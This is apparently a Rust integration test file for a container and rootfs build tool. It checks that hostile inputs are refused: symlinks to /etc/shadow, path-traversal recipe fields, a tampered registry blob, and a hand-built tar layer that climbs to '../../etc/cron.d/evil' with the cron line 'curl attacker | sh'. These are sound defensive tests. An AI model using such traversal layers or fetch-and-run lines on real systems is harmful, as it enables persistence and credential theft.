//! Hostile inputs through the real binary, each refused with an error that names the file
//! and field, before anything runs: a build context with a symlink out of it, rootfs
//! recipes whose script or overlay path is absolute, climbs with `..`, or resolves through a
//! symlink to a directory outside the recipes.

mod common;

use common::*;

#[test]
fn a_build_context_symlink_out_of_the_context_is_refused() {
    let ws = Workspace::new();
    ws.add_busybox();
    std::os::unix::fs::symlink("/etc/shadow", ws.path().join("images/busybox/shadow")).unwrap();
    let r = ws.kci(&["build"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("images/busybox/shadow")
            && r.stderr.contains("points outside the build context"),
        "{}",
        r.stderr
    );
}

/// `recipes/evil.toml` beside the tiny config's scripts and overlays (the steps every rootfs
/// runs are there: what is refused is `extra`).
fn rootfs_recipe(ws: &Workspace, extra: &str) {
    ws.add_tiny_rootfs();
    ws.write(
        "recipes/evil.toml",
        &format!("name = \"evil\"\ndebian-release = \"bookworm\"\narch-list = [\"amd64\"]\nsource-date-epoch = 1\nmirror = \"auto\"\n{extra}"),
    );
}

#[test]
fn rootfs_recipe_paths_out_of_the_recipes_are_refused() {
    for (extra, field) in [
        (
            "script = \"/etc/passwd\"\n",
            "script: `/etc/passwd` must be a relative path",
        ),
        (
            "script = \"../../../etc/passwd\"\n",
            "script: `../../../etc/passwd` must be a relative path",
        ),
        (
            "test-overlay = \"overlays/../../root\"\n",
            "test-overlay: `overlays/../../root` must be a relative path",
        ),
    ] {
        let ws = Workspace::new();
        rootfs_recipe(&ws, extra);
        let r = ws.kci(&["rootfs", "evil"]);
        assert_eq!(r.code, 1, "{extra}: {}", r.stderr);
        assert!(
            r.stderr.contains("recipes/evil.toml") && r.stderr.contains(field),
            "{extra}: {}",
            r.stderr
        );
    }
    // An overlay holding a symlink (to a file of the machine, once copied into the rootfs).
    let ws = Workspace::new();
    std::fs::create_dir_all(ws.path().join("recipes/overlays/evil/etc")).unwrap();
    std::os::unix::fs::symlink(
        "/etc/shadow",
        ws.path().join("recipes/overlays/evil/etc/shadow"),
    )
    .unwrap();
    rootfs_recipe(&ws, "test-overlay = \"overlays/evil\"\n");
    let r = ws.kci(&["rootfs", "evil"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("overlays/evil/etc/shadow")
            && r.stderr.contains("only files and directories"),
        "{}",
        r.stderr
    );

    // A path that looks inside but resolves outside through a symlink.
    let ws = Workspace::new();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("steal.sh"), "cat /etc/shadow\n").unwrap();
    std::fs::create_dir_all(ws.path().join("recipes")).unwrap();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("recipes/scripts")).unwrap();
    rootfs_recipe(&ws, "script = \"scripts/steal.sh\"\n");
    let r = ws.kci(&["rootfs", "evil"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("recipes/evil.toml: script:")
            && r.stderr.contains("outside the recipes directory"),
        "{}",
        r.stderr
    );
}

/// A registry whose stored blob was changed under it (Debian's docker-registry serves the
/// file as it is): a store pulling the target refuses the bytes, naming the digest, keeps
/// nothing of them, and the store stays sound.
#[test]
fn a_registry_serving_other_bytes_for_a_blob_is_refused() {
    use common::registry::{Auth, Registry};
    let _g = daemon_lock();
    let reg = Registry::start(Auth::None);
    let ws = Workspace::new();
    ws.add_busybox();
    ws.add_child("child", "child:hello", "busybox", "hello");
    ws.kci(&["build", "--push", "--registry", &reg.addr()]).ok();
    let lock: toml::Value =
        toml::from_str(&std::fs::read_to_string(ws.lockfile()).unwrap()).unwrap();
    let layer = lock["target"]["child:hello"]["output"]["layers"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .as_str()
        .unwrap()
        .strip_prefix("sha256:")
        .unwrap()
        .to_owned();
    let data = reg.dir.path().join(format!(
        "data/docker/registry/v2/blobs/sha256/{}/{layer}/data",
        &layer[..2]
    ));
    let mut bytes = std::fs::read(&data).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 0xff;
    std::fs::write(&data, &bytes).unwrap();

    let other = Workspace::new(); // another machine: empty store, same recipes
    other.add_busybox();
    other.add_child("child", "child:hello", "busybox", "hello");
    let r = other.kci(&["build", "--registry", &reg.addr(), "--json"]);
    let stored = other.store().join(format!("blobs/sha256/{layer}"));
    assert_eq!(r.code, 2, "the registry is at fault: {}", r.stderr);
    assert!(
        r.stderr
            .contains(&format!("for sha256:{layer}: refused, nothing kept")),
        "{}",
        r.stderr
    );
    assert!(!stored.exists(), "the wrong bytes were kept");
    let verify = other.kci(&["store", "verify", "--json"]).ok().json();
    assert_eq!(verify["problems"], serde_json::json!([]), "{verify}");
}

/// Bytes as a gzip member.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(bytes).unwrap();
    gz.finish().unwrap()
}

fn sha256_hex(bytes: &[u8]) -> String {
    kci_build::core::names::Digest::of(bytes).hex().to_owned()
}

/// Uploads `bytes` as a blob of `repo` (a monolithic upload: POST, then PUT with the digest).
fn upload_blob(reg: &str, repo: &str, bytes: &[u8]) -> String {
    let digest = format!("sha256:{}", sha256_hex(bytes));
    let location = sh(&format!(
        "curl -sf -D - -o /dev/null -X POST http://{reg}/v2/{repo}/blobs/uploads/ | tr -d '\\r' | sed -n 's/^[Ll]ocation: //p'"
    ));
    let location = location.trim();
    let url = if location.starts_with("http") {
        location.to_owned()
    } else {
        format!("http://{reg}{location}")
    };
    let sep = if url.contains('?') { '&' } else { '?' };
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), bytes).unwrap();
    sh(&format!(
        "curl -sf -X PUT -H 'Content-Type: application/octet-stream' --data-binary @{} '{url}{sep}digest={digest}'",
        file.path().display()
    ));
    digest
}

/// A registry that serves, under a target's key tag, a self-consistent image (every digest
/// and diff_id right) whose last layer holds an entry climbing out of the root: a store
/// pulling it refuses the layer, naming it and the entry, keeps none of its bytes, and the
/// store stays sound.
#[test]
fn a_pushed_image_whose_layer_climbs_out_of_the_root_is_refused() {
    use common::registry::{Auth, Registry};
    let _g = daemon_lock();
    let reg = Registry::start(Auth::None);
    let addr = reg.addr();
    let ws = Workspace::new();
    ws.add_busybox();
    ws.add_child("child", "child:hello", "busybox", "hello");
    ws.kci(&["build", "--push", "--registry", &addr]).ok();
    let lock: toml::Value =
        toml::from_str(&std::fs::read_to_string(ws.lockfile()).unwrap()).unwrap();
    let key = lock["target"]["child:hello"]["key"]
        .as_str()
        .unwrap()
        .strip_prefix("sha256:")
        .unwrap()
        .to_owned();
    let repo = "kernelci/child";
    let accept = "application/vnd.oci.image.manifest.v1+json";
    let get = |what: &str| {
        sh(&format!(
            "curl -sf -H 'Accept: {accept}' http://{addr}/v2/{repo}/{what}"
        ))
    };
    let mut manifest: serde_json::Value =
        serde_json::from_str(&get(&format!("manifests/kci-{key}"))).unwrap();
    let config_digest = manifest["config"]["digest"].as_str().unwrap().to_owned();
    let mut config: serde_json::Value =
        serde_json::from_str(&get(&format!("blobs/{config_digest}"))).unwrap();

    // The hostile layer: a regular file at `../../etc/cron.d/evil`, written raw (the tar
    // crate refuses to build such a path).
    let mut header = tar::Header::new_ustar();
    let evil = b"../../etc/cron.d/evil";
    header.as_old_mut().name[..evil.len()].copy_from_slice(evil);
    let body = b"* * * * * root curl attacker | sh\n";
    header.set_size(body.len() as u64);
    header.set_mode(0o644);
    header.set_entry_type(tar::EntryType::Regular);
    header.set_cksum();
    let mut raw = header.as_bytes().to_vec();
    raw.extend_from_slice(body);
    raw.resize(512 + body.len().div_ceil(512) * 512, 0);
    raw.extend_from_slice(&[0u8; 1024]);
    let layer = gzip(&raw);
    let layer_digest = upload_blob(&addr, repo, &layer);
    let diff_id = format!("sha256:{}", sha256_hex(&raw));

    let n = config["rootfs"]["diff_ids"].as_array().unwrap().len();
    config["rootfs"]["diff_ids"][n - 1] = diff_id.into();
    let config_bytes = serde_json::to_vec(&config).unwrap();
    let new_config = upload_blob(&addr, repo, &config_bytes);
    manifest["config"]["digest"] = new_config.into();
    manifest["config"]["size"] = config_bytes.len().into();
    let m = manifest["layers"].as_array().unwrap().len();
    manifest["layers"][m - 1]["digest"] = layer_digest.clone().into();
    manifest["layers"][m - 1]["size"] = layer.len().into();
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), serde_json::to_vec(&manifest).unwrap()).unwrap();
    sh(&format!(
        "curl -sf -X PUT -H 'Content-Type: {accept}' --data-binary @{} http://{addr}/v2/{repo}/manifests/kci-{key}",
        file.path().display()
    ));

    let other = Workspace::new(); // another machine: empty store, same recipes
    other.add_busybox();
    other.add_child("child", "child:hello", "busybox", "hello");
    let r = other.kci(&["build", "--registry", &addr, "--json"]);
    assert_eq!(r.code, 2, "the registry is at fault: {}", r.stderr);
    assert!(
        r.stderr.contains(&format!("layer {layer_digest}"))
            && r.stderr.contains("../../etc/cron.d/evil"),
        "{}",
        r.stderr
    );
    let stored = other.store().join(format!(
        "blobs/sha256/{}",
        layer_digest.strip_prefix("sha256:").unwrap()
    ));
    assert!(!stored.exists(), "the hostile layer was kept");
    assert!(
        !other.lockfile().exists()
            || !std::fs::read_to_string(other.lockfile())
                .unwrap()
                .contains(&layer_digest),
        "the hostile layer reached the lockfile"
    );
    let verify = other.kci(&["store", "verify", "--json"]).ok().json();
    assert_eq!(verify["problems"], serde_json::json!([]), "{verify}");
}
